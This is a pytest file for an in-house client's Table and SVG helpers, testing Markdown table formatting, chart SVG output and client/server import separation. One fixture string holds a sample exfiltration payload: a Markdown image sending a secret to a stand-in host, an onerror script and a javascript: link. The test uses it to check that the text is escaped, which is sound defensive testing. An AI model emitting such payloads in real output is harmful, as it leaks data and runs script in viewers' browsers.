"""`Table` and `SVG` on their own: Markdown that shows cells literally, charts Jupyter draws."""

from __future__ import annotations

import subprocess
import sys
import xml.etree.ElementTree as ET

import pytest
from markdown_it import MarkdownIt

from inhouse.client import SVG, Table

EXFILTRATION = "![x](http://evil.example/?q=SECRET) <img src=x onerror=alert(1)> [a](javascript:1)"


def test_markdown_aligns_numbers_formats_times_and_flattens_lists_and_dicts() -> None:
    table = Table(
        [
            {
                "name": "ana",
                "tokens": 1234567,
                "cost": 0.00123,
                "created_at": 0.0,
                "groups": ["a", "b"],
                "limits": {"tokens_per_day": 5, "requests_per_minute": None},
            },
            {"name": "bo|b", "tokens": 2, "cost": 12.5, "created_at": 86400.5, "disabled": True},
            {"name": "cy", "tokens": 0, "cost": -0.0000952},
        ],
        {"by": "user"},
    )
    lines = table.to_markdown().splitlines()
    assert lines[0] == "| name | tokens | cost | created_at | groups | limits | disabled |"
    assert lines[1] == "|---|---:|---:|---|---|---|---|"
    assert lines[2] == (
        "| ana | 1,234,567 | 0.00123 | 1970-01-01 00:00 | a, b | tokens_per_day=5 |  |"
    )
    assert lines[3] == "| bo\\|b | 2 | 12.50 | 1970-01-02 00:00 |  |  | yes |"
    assert lines[4] == "| cy | 0 | -0.0000952 |  |  |  |  |"
    assert table._repr_markdown_() == table.to_markdown()
    assert table.to_markdown(["tokens"]).splitlines()[2] == "| 1,234,567 |"
    assert Table().to_markdown() == "(no rows)" and table.meta == {"by": "user"}


def test_text_from_documents_is_shown_literally_never_as_html_images_or_links() -> None:
    table = Table([{"snippet": EXFILTRATION, "long": "word " * 100}])
    markdown = table.to_markdown(max_chars=200)
    html = MarkdownIt("commonmark").enable("table").render(markdown)  # raw HTML on, as Jupyter
    assert "<img" not in html and "<a " not in html and "evil.example" in html
    cell = table.to_markdown(["long"], max_chars=20).splitlines()[2]
    assert cell == "| word word word word… |"


def test_charts_are_well_formed_svg_that_jupyter_displays(tmp_path: object) -> None:
    table = Table([{"day": "2026-11-30", "a": 3, "b": 1.5}, {"day": "2026-12-01", "a": 4, "b": 0}])
    bar = table.chart("a", title="<Tokens & more>")
    root = ET.fromstring(bar._repr_svg_())
    assert root.tag.endswith("svg") and "&lt;Tokens &amp; more&gt;" in str(bar)
    line = table.chart(["a", "b"], kind="line", unit="tokens")
    assert isinstance(line, SVG) and ET.fromstring(str(line)).tag.endswith("svg")
    with pytest.raises(ValueError, match="one value column"):
        table.chart(["a", "b"])
    with pytest.raises(ValueError, match="number in every row"):
        table.chart("day")


def test_importing_the_client_loads_no_part_of_the_server() -> None:
    server = ("fastapi", "sqlalchemy", "llama_cpp", "inhouse.api", "inhouse.store")
    probe = f"import sys, inhouse.client; print([m for m in {server!r} if m in sys.modules])"
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True)
    assert (result.returncode, result.stdout.strip()) == (0, "[]"), result.stderr
